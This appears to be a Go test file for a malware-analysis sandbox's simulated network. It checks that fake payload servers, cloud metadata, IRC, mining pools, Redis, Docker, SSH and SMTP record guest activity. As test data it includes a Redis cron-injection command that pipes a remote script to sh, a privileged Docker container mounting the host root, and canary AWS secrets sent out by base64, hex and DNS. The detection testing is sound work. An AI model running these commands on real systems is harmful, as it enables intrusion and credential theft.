package network_test

import (
	"context"
	"crypto/rand"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"io"
	"net"
	"net/http"
	"net/netip"
	"net/smtp"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/miekg/dns"
	"github.com/redis/go-redis/v9"
	"golang.org/x/crypto/ssh"

	"github.com/sallyport-dev/sallyport/sandbox/canary"
	"github.com/sallyport-dev/sallyport/sandbox/marker"
	"github.com/sallyport-dev/sallyport/sandbox/network"
	"github.com/sallyport-dev/sallyport/sandbox/observation"
)

func TestPayloads(t *testing.T) {
	g := newGuest(t, func(c *network.Config) { c.Arch = "arm64" })
	elf := func(arch string) string {
		b, err := marker.ELF(arch, token)
		if err != nil {
			t.Fatal(err)
		}
		return string(b)
	}
	script := string(marker.Script(token))
	for name, c := range map[string]struct {
		url, agent, accept string
		status             int
		body, payload      string
	}{
		"script":                      {"http://198.51.100.1/x/install.sh", "curl/7.88", "*/*", 200, script, "script"},
		"script over TLS":             {"https://paste.example/a.sh?raw=1", "Wget/1.21", "*/*", 200, script, "script"},
		"installer without ending":    {"https://get.example/install", "curl/7.88", "*/*", 200, script, "script"},
		"program for one CPU":         {"http://198.51.100.1/bins/bot.x86_64", "Wget", "*/*", 200, elf("amd64"), "elf"},
		"program by uname":            {"http://drop.example/xmrig-aarch64", "curl/7.88", "*/*", 200, elf("arm64"), "elf"},
		"program for the guest":       {"http://198.51.100.1/kinsing", "curl/7.88", "*/*", 200, elf("arm64"), "elf"},
		"CPU that nobody has here":    {"http://198.51.100.1/bins/bot.mips", "Wget", "*/*", 200, elf("arm64"), "elf"},
		"program, to a browser":       {"http://198.51.100.1/kinsing", "Mozilla/5.0", "text/html", 200, "<html>", ""},
		"interface, to curl":          {"http://svc.example/api/v1/items", "curl/7.88", "application/json", 200, `{"status":"ok"}`, ""},
		"health, to curl":             {"http://svc.example/healthz", "curl/7.88", "*/*", 200, "<html>", ""},
		"archive":                     {"http://198.51.100.1/miner.tar.gz", "curl/7.88", "*/*", 404, "", ""},
		"Debian's mirror":             {"http://deb.debian.org/debian/dists/bookworm/InRelease", "Debian APT", "*/*", 404, "", ""},
		"Alpine's mirror":             {"https://dl-cdn.alpinelinux.org/alpine/v3.20/main/x86_64/APKINDEX.tar.gz", "apk", "*/*", 404, "", ""},
		"Debian's mirror, a script":   {"http://deb.debian.org/x.sh", "curl", "*/*", 404, "", ""},
		"GitHub's interface":          {"https://api.github.com/repos/x/y/releases", "curl/7.88", "*/*", 404, `{"message"`, ""},
		"what is my address":          {"http://ifconfig.me/", "curl/7.88", "*/*", 200, "203.0.113.", ""},
		"a name that ends like a CDN": {"http://notdebian.org/run.sh", "curl/7.88", "*/*", 200, script, "script"},
	} {
		t.Run(name, func(t *testing.T) {
			req, err := http.NewRequest("GET", c.url, nil)
			if err != nil {
				t.Fatal(err)
			}
			req.Header.Set("User-Agent", c.agent)
			req.Header.Set("Accept", c.accept)
			r, err := g.browser(dns.TypeA).Do(req)
			if err != nil {
				t.Fatal(err)
			}
			defer r.Body.Close()
			body, _ := io.ReadAll(r.Body)
			if r.StatusCode != c.status || !strings.Contains(string(body), c.body) || c.payload != "" && string(body) != c.body {
				t.Errorf("answered %d %.80q, want %d %.80q", r.StatusCode, body, c.status, c.body)
			}
			all := g.world.Records(g.start).HTTP
			i := slices.IndexFunc(all, func(h observation.HTTP) bool {
				return h.Path == req.URL.RequestURI() && h.Host == req.URL.Hostname() && h.Headers["User-Agent"] == c.agent
			})
			if i < 0 {
				t.Fatal("the request is not recorded")
			}
			if h := all[i]; h.Payload != c.payload || h.Status != c.status || h.Method != "GET" || len(h.SHA256) != 64 {
				t.Errorf("recorded as %+v", h)
			}
		})
	}
}

func TestHTTPBodiesAndManyRequestsOnOneConnection(t *testing.T) {
	g := newGuest(t)
	client := g.browser(dns.TypeA)
	big := strings.Repeat("0123456789abcdef", 64<<10) // 1 MiB
	for _, body := range []string{"small", big} {
		req, _ := http.NewRequest("POST", "http://upload.example/put", strings.NewReader(body))
		req.Header.Set("Expect", "100-continue")
		r, err := client.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		io.Copy(io.Discard, r.Body)
		r.Body.Close()
	}
	r, err := client.Head("http://upload.example/file.sh")
	if err != nil || r.ContentLength <= 0 {
		t.Fatalf("HEAD: %+v, %v", r, err)
	}
	records := g.world.Records(g.start)
	if len(records.HTTP) != 3 || records.HTTP[0].Body != "small" || records.HTTP[1].Body != big[:64<<10] {
		t.Fatalf("recorded %d requests", len(records.HTTP))
	}
	flows := slices.DeleteFunc(records.Flows, func(f observation.Flow) bool { return f.Proto == "udp" })
	if len(flows) != 1 || flows[0].BytesOut < 1<<20 || len(flows[0].Out) > 4*64<<10 {
		t.Errorf("%d flows", len(flows))
	}
}

func TestBrokenHTTPIsRefused(t *testing.T) {
	g := newGuest(t)
	for name, words := range map[string]string{
		"no header":        "GET / HTTP/1.1\r\n:\r\n\r\n",
		"endless header":   "GET / HTTP/1.1\r\nX: " + strings.Repeat("x", 100<<10),
		"length that lies": "POST / HTTP/1.1\r\nContent-Length: -5\r\n\r\n",
	} {
		conn := g.connect("198.51.100.5:80")
		if heard := g.say(conn, words, "\r\n\r\n"); !strings.HasPrefix(heard, "HTTP/1.1 400 ") {
			t.Errorf("%s: %q", name, heard)
		}
	}
}

func TestMetadataService(t *testing.T) {
	set, err := canary.New(rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	g := newGuest(t, func(c *network.Config) { c.Canaries = set })
	client := g.browser(dns.TypeA)
	const base = "http://169.254.169.254"
	req, _ := http.NewRequest("PUT", base+"/latest/api/token", nil)
	r, err := client.Do(req)
	if err != nil || r.StatusCode != 200 {
		t.Fatalf("token: %v, %v", r, err)
	}
	r.Body.Close()
	_, role := g.get(client, base+"/latest/meta-data/iam/security-credentials/")
	_, document := g.get(client, base+"/latest/meta-data/iam/security-credentials/"+role)
	var credentials struct{ AccessKeyId, SecretAccessKey, Token, Expiration string }
	if err := json.Unmarshal([]byte(document), &credentials); err != nil {
		t.Fatalf("%q: %v", document, err)
	}
	if credentials.AccessKeyId != set.Value(canary.IMDSAccessKeyID) || credentials.SecretAccessKey != set.Value(canary.IMDSSecretKey) || credentials.Token != set.Value(canary.IMDSSessionToken) {
		t.Errorf("credentials %+v are not the canaries", credentials)
	}
	if status, _ := g.get(client, base+"/computeMetadata/v1/"); status != 404 {
		t.Errorf("another cloud's path: %d", status)
	}
	for _, f := range g.world.Records(g.start).Flows {
		if f.Direct || len(f.Canaries) > 0 {
			t.Errorf("recorded as %+v", f)
		}
	}
}

func TestStolenSecretsAreFound(t *testing.T) {
	set, err := canary.New(rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	g := newGuest(t, func(c *network.Config) { c.Canaries = set; c.Limits.Flows = 5 })
	secret := set.Value(canary.AWSSecretAccessKey)
	post := func(url, body string) {
		t.Helper()
		r, err := g.browser(dns.TypeA).Post(url, "application/x-www-form-urlencoded", strings.NewReader(body))
		if err != nil {
			t.Fatal(err)
		}
		r.Body.Close()
	}
	// Each host is asked for by a DNS flow, then dialled: the limit is exceeded on purpose.
	post("https://collector.example/up", "d="+base64.StdEncoding.EncodeToString([]byte("aws_secret_access_key = "+secret)))
	post("https://sts.eu-central-1.amazonaws.com/", "key="+secret)
	post("http://198.51.100.66:8443/", hex.EncodeToString([]byte(secret)))
	io.WriteString(g.connect("198.51.100.67:9001"), "\x00\x01"+secret[:15])
	raw := g.connect("198.51.100.68:9001")
	io.WriteString(raw, "\x00\x01"+secret[:15])
	time.Sleep(10 * time.Millisecond)
	io.WriteString(raw, secret[15:])
	for _, part := range []string{secret[:12], secret[12:]} {
		g.ask("udp", g.resolver(), hex.EncodeToString([]byte(part))+".drop.example", dns.TypeA)
	}

	found := func(r network.Records) map[string]observation.Canary {
		m := map[string]observation.Canary{}
		for _, f := range r.Flows {
			for _, c := range f.Canaries {
				key := f.Domain + f.DstIP
				if f.Domain != "" {
					key = f.Domain
				}
				m[key] = c
			}
		}
		return m
	}
	want := map[string]observation.Canary{
		"collector.example":              {Encoding: "base64"},
		"sts.eu-central-1.amazonaws.com": {Encoding: "raw", OwnDomain: true},
		"198.51.100.66":                  {Encoding: "hex"},
		"198.51.100.68":                  {Encoding: "raw"},
		g.world.Resolver().String():      {Encoding: "hex"},
	}
	r := g.records("all secrets", func(r network.Records) bool { return len(found(r)) == len(want) })
	for host, w := range want {
		got := found(r)[host]
		if got.Name != canary.AWSSecretAccessKey || got.Encoding != w.Encoding || got.OwnDomain != w.OwnDomain || len(got.Owner) == 0 {
			t.Errorf("%s: %+v, want %+v", host, got, w)
		}
	}
	if r.Beyond.Flows == 0 {
		t.Error("the limit of flows did not matter")
	}
}

func TestLimitsHold(t *testing.T) {
	g := newGuest(t, func(c *network.Config) {
		c.Limits = network.Limits{Flows: 10, Queries: 3, Requests: 2, Messages: 4, Excerpts: 1000}
	})
	client := g.browser(dns.TypeA)
	for range 6 {
		g.get(client, "http://many.example/")
		g.ask("udp", g.resolver(), "many.example", dns.TypeA)
	}
	for range 10 {
		g.connect("198.51.100.1:80").Close()
	}
	irc := g.connect("198.51.100.1:6667")
	g.say(irc, "NICK a\r\nUSER a a a a\r\nPING 1\r\nPING 2\r\nPING 3\r\nPING 4\r\n", "PONG irc.example.net :4")
	r := g.world.Records(g.start)
	bytes := 0
	for _, f := range r.Flows {
		bytes += len(strings.ReplaceAll(strings.ReplaceAll(f.Out+f.In, `\x0d`, "."), `\x0a`, "."))
	}
	if len(r.Flows) != 10 || len(r.DNS) != 3 || len(r.HTTP) != 2 {
		t.Errorf("kept %d flows, %d queries, %d requests", len(r.Flows), len(r.DNS), len(r.HTTP))
	}
	if b := r.Beyond; b.Flows == 0 || b.DNS < 3 || b.HTTP < 4 || b.Messages < 2 || b.Bytes == 0 {
		t.Errorf("beyond the limits: %+v", b)
	}
	if bytes > 4000 { // 1000 of them, some escaped
		t.Errorf("%d bytes were kept", bytes)
	}
}

func TestIRC(t *testing.T) {
	g := newGuest(t)
	conn := g.connect("198.51.100.20:443") // any port
	g.say(conn, "NICK bot7\r\n", "NOTICE AUTH")
	g.say(conn, "USER bot7 0 * :bot\r\n", " 001 bot7 ")
	g.say(conn, "PING :x\r\n", "PONG irc.example.net :x")
	heard := g.say(conn, "JOIN #secret\r\n", "PRIVMSG #secret :!sh echo "+token+"\r\n")
	if !strings.Contains(heard, " 366 bot7 #secret") {
		t.Errorf("joining was answered %q", heard)
	}
	g.say(conn, "PRIVMSG #secret :"+token+"\r\nQUIT\r\n", "ERROR")
	f := g.flow("the conversation", to("198.51.100.20:443"))
	if f.App != "irc" || !slices.Equal(messages(f, true), []string{"NICK", "USER", "PING", "JOIN", "PRIVMSG", "QUIT"}) || !slices.Equal(messages(f, false), []string{"PRIVMSG"}) {
		t.Errorf("recorded as %+v", f)
	}
	if m := f.Messages[3]; m.Fields["channel"] != "#secret" {
		t.Errorf("JOIN recorded as %+v", m)
	}
}

func TestIRCInsideTLS(t *testing.T) {
	g := newGuest(t)
	conn := g.secure("c2.example:6697")
	g.say(conn, "NICK a\r\nUSER a a a a\r\nJOIN #x\r\n", token)
	f := g.flow("the conversation", func(f observation.Flow) bool { return f.SNI == "c2.example" })
	if f.App != "irc" || !f.TLS || f.Domain != "c2.example" || !strings.HasPrefix(f.Out, `NICK a\x0d\x0a`) {
		t.Errorf("recorded as %+v", f)
	}
}

func TestMining(t *testing.T) {
	for name, c := range map[string]struct {
		says []string // requests
		want []string // in the answers
		out  []string // methods recorded
		in   []string
	}{
		"Stratum": {
			[]string{`{"id":1,"method":"mining.subscribe","params":["cpuminer/2.5"]}`, `{"id":2,"method":"mining.authorize","params":["wallet.1","x"]}`, `{"id":3,"method":"mining.submit","params":["wallet.1","1","0","0","0"]}`},
			[]string{`"id":1`, `"mining.notify"`, `"id":3`},
			[]string{"mining.subscribe", "mining.authorize", "mining.submit"}, []string{"mining.notify"},
		},
		"Monero": {
			[]string{`{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"4wallet","pass":"x","agent":"XMRig/6.21"}}`, `{"id":2,"jsonrpc":"2.0","method":"submit","params":{"id":"1","job_id":"1","nonce":"00000000","result":"00"}}`},
			[]string{`"blob":"1010`, `"status":"OK"`},
			[]string{"login", "submit"}, []string{"job"},
		},
		"Ethereum": {
			[]string{`{"id":1,"method":"eth_submitLogin","params":["0xwallet"]}`, `{"id":2,"method":"eth_getWork","params":[]}`},
			[]string{`"result":true`, `"0x0000`},
			[]string{"eth_submitLogin", "eth_getWork"}, nil,
		},
	} {
		for _, secure := range []bool{false, true} {
			t.Run(name, func(t *testing.T) {
				g := newGuest(t)
				var conn net.Conn
				if secure {
					conn = g.secure("pool.example:443")
				} else {
					conn = g.connect(netip.AddrPortFrom(g.resolve("pool.example", dns.TypeA), 3333).String())
				}
				for i, words := range c.says {
					heard := g.say(conn, words+"\n", c.want[i])
					for line := range strings.Lines(heard) {
						if !json.Valid([]byte(line)) {
							t.Errorf("%q is not JSON", line)
						}
					}
				}
				f := g.flow("the conversation", func(f observation.Flow) bool { return f.App == "stratum" })
				out := slices.DeleteFunc(messages(f, true), func(s string) bool { return s == "handshake" })
				if f.Domain != "pool.example" || f.TLS != secure || !slices.Equal(out, c.out) || !slices.Equal(messages(f, false), c.in) {
					t.Errorf("recorded as %+v", f)
				}
			})
		}
	}
}

func TestJSONThatIsNoMining(t *testing.T) {
	g := newGuest(t)
	for i, words := range []string{`{"method":"ping","id":1}` + "\n", `{"hello":"world"}` + "\n", "{broken\n"} {
		conn := g.connect(netip.AddrPortFrom(netip.MustParseAddr("198.51.100.30"), uint16(3333+i)).String())
		io.WriteString(conn, words)
		f := g.flow("the line", func(f observation.Flow) bool { return f.App != "" && f.DstPort == uint16(3333+i) })
		if f.App != "raw" || len(f.Messages) > 0 {
			t.Errorf("%q: recorded as %+v", words, f)
		}
	}
}

func TestRedis(t *testing.T) {
	g := newGuest(t)
	client := redis.NewClient(&redis.Options{
		Addr: "198.51.100.40:7001", Dialer: func(context.Context, string, string) (net.Conn, error) { return g.dial("198.51.100.40:7001") },
		DisableIdentity: true, MaxRetries: -1,
	})
	defer client.Close()
	ctx := t.Context()
	for _, command := range [][]any{
		{"config", "set", "dir", "/var/spool/cron"}, {"config", "set", "dbfilename", "root"}, {"set", "x", "\n* * * * * curl http://198.51.100.1/x.sh|sh\n"},
		{"save"}, {"slaveof", "198.51.100.1", "6379"}, {"module", "load", "/tmp/x.so"}, {"flushall"},
	} {
		if answer, err := client.Do(ctx, command...).Result(); err != nil || answer != "OK" {
			t.Errorf("%v: %v, %v", command, answer, err)
		}
	}
	if info, err := client.Info(ctx).Result(); err != nil || !strings.Contains(info, "redis_version") {
		t.Errorf("info: %q, %v", info, err)
	}
	if dir, err := client.ConfigGet(ctx, "dir").Result(); err != nil || dir["dir"] == "" {
		t.Errorf("config get: %v, %v", dir, err)
	}
	if keys, err := client.Keys(ctx, "*").Result(); err != nil || len(keys) != 0 {
		t.Errorf("keys: %v, %v", keys, err)
	}
	f := g.flow("all commands", func(f observation.Flow) bool { return slices.Contains(messages(f, true), "KEYS") })
	i := slices.IndexFunc(f.Messages, func(m observation.Message) bool { return m.Type == "CONFIG" })
	if f.App != "redis" || i < 0 || f.Messages[i].Fields["args"] != "set dir /var/spool/cron" {
		t.Errorf("recorded as %+v", f)
	}
	inline := g.connect("198.51.100.41:6379")
	g.say(inline, "PING\r\n", "+PONG\r\n")
}

func TestDockerAPI(t *testing.T) {
	g := newGuest(t)
	client := g.browser(dns.TypeA)
	call := func(method, path, body string) (int, string) {
		t.Helper()
		req, _ := http.NewRequest(method, "http://198.51.100.50:2375"+path, strings.NewReader(body))
		req.Header.Set("Content-Type", "application/json")
		r, err := client.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		defer r.Body.Close()
		b, _ := io.ReadAll(r.Body)
		return r.StatusCode, string(b)
	}
	for _, c := range []struct {
		method, path, body string
		status             int
		want               string
	}{
		{"GET", "/_ping", "", 200, "OK"},
		{"GET", "/version", "", 200, `"ApiVersion":"1.43"`},
		{"GET", "/v1.43/info", "", 200, `"ServerVersion"`},
		{"GET", "/v1.43/containers/json?all=1", "", 200, "[]"},
		{"POST", "/v1.43/images/create?fromImage=alpine&tag=latest", "", 200, "Downloaded"},
		{"POST", "/v1.43/containers/create", `{"Image":"alpine","Cmd":["sh","-c","id"],"HostConfig":{"Privileged":true,"Binds":["/:/host"]}}`, 201, `"Id":"`},
		{"POST", "/v1.43/containers/0123/start", "", 204, ""},
		{"POST", "/v1.43/containers/0123/exec", `{"Cmd":["id"]}`, 201, `"Id":"`},
		{"POST", "/v1.43/exec/0123/start", `{}`, 200, "\x01\x00\x00\x00\x00\x00\x00\x18uid=0(root)"},
		{"GET", "/v1.43/exec/0123/json", "", 200, `"ExitCode":0`},
		{"GET", "/v1.43/containers/0123/json", "", 200, `"Running":true`},
		{"POST", "/v1.43/containers/0123/wait", "", 200, `"StatusCode":0`},
		{"DELETE", "/v1.43/containers/0123", "", 204, ""},
	} {
		if status, body := call(c.method, c.path, c.body); status != c.status || !strings.Contains(body, c.want) {
			t.Errorf("%s %s: %d %q", c.method, c.path, status, body)
		}
	}
	var created observation.Message
	for _, f := range g.world.Records(g.start).Flows {
		if f.App != "docker" {
			t.Errorf("recorded as %+v", f)
		}
		for _, m := range f.Messages {
			if m.Type == "POST containers/create" {
				created = m
			}
		}
	}
	if created.Fields["privileged"] != "true" || created.Fields["binds"] != "/:/host" || created.Fields["image"] != "alpine" || created.Fields["cmd"] != "sh -c id" {
		t.Errorf("the creation is recorded as %+v", created)
	}
	if status, body := g.get(client, "http://web.example/containers/json"); strings.Contains(body, "[]") {
		t.Errorf("an ordinary web server answered as Docker: %d %q", status, body)
	}
}

func TestSSHTriesAreRecorded(t *testing.T) {
	g := newGuest(t)
	conn := g.connect("198.51.100.60:22")
	tries := 0
	_, _, _, err := ssh.NewClientConn(conn, "198.51.100.60:22", &ssh.ClientConfig{
		User: "root", HostKeyCallback: ssh.InsecureIgnoreHostKey(), //nolint: the server is ours
		Auth: []ssh.AuthMethod{ssh.RetryableAuthMethod(ssh.PasswordCallback(func() (string, error) {
			tries++
			return []string{"root", "toor", "123456"}[(tries-1)%3], nil
		}), 3)},
	})
	if err == nil {
		t.Fatal("somebody was let in")
	}
	f := g.flow("three tries", func(f observation.Flow) bool { return len(f.Messages) >= 4 })
	if f.App != "ssh" || f.Messages[0].Type != "ident" || !strings.HasPrefix(f.Messages[0].Fields["version"], "SSH-2.0-") {
		t.Errorf("recorded as %+v", f)
	}
	for i, password := range []string{"root", "toor", "123456"} {
		if m := f.Messages[i+1]; m.Type != "auth" || m.Fields["password"] != password || m.Fields["user"] != "root" {
			t.Errorf("try %d is recorded as %+v", i, m)
		}
	}
	silent := g.connect("198.51.100.61:22")
	if banner := g.say(silent, "", "\r\n"); !strings.HasPrefix(banner, "SSH-2.0-OpenSSH") {
		t.Errorf("a scanner sees %q", banner)
	}
}

func TestMailIsTaken(t *testing.T) {
	g := newGuest(t)
	client, err := smtp.NewClient(g.connect("198.51.100.70:25"), "mail.example")
	if err != nil {
		t.Fatal(err)
	}
	if err := client.Mail("bot@victim.example"); err != nil {
		t.Fatal(err)
	}
	if err := client.Rcpt("drop@evil.example"); err != nil {
		t.Fatal(err)
	}
	w, err := client.Data()
	if err != nil {
		t.Fatal(err)
	}
	io.WriteString(w, "Subject: loot\r\n\r\nhello\r\n")
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	if err := client.Quit(); err != nil {
		t.Fatal(err)
	}
	f := g.flow("the mail", to("198.51.100.70:25"))
	if f.App != "smtp" || !slices.Equal(messages(f, true), []string{"EHLO", "MAIL", "RCPT", "DATA", "subject", "QUIT"}) {
		t.Errorf("recorded as %+v", f)
	}
}

func TestBytesAreEscapedUnambiguously(t *testing.T) {
	var wide []byte
	for i := range 256 {
		wide = append(wide, byte(i))
	}
	g := newGuest(t)
	conn := g.connect("198.51.100.90:9")
	conn.Write(wide)
	f := g.flow("all bytes", func(f observation.Flow) bool { return f.BytesOut == 256 })
	if !strings.HasPrefix(f.Out, `\x00\x01`) || !strings.Contains(f.Out, ` !"#`) || !strings.Contains(f.Out, `[\x5c]`) || !strings.HasSuffix(f.Out, `~\x7f`+highBytes()) {
		t.Errorf("escaped as %s", f.Out)
	}
}

func highBytes() string {
	var b strings.Builder
	for i := 0x80; i < 0x100; i++ {
		b.WriteString(`\x` + hex.EncodeToString([]byte{byte(i)}))
	}
	return b.String()
}
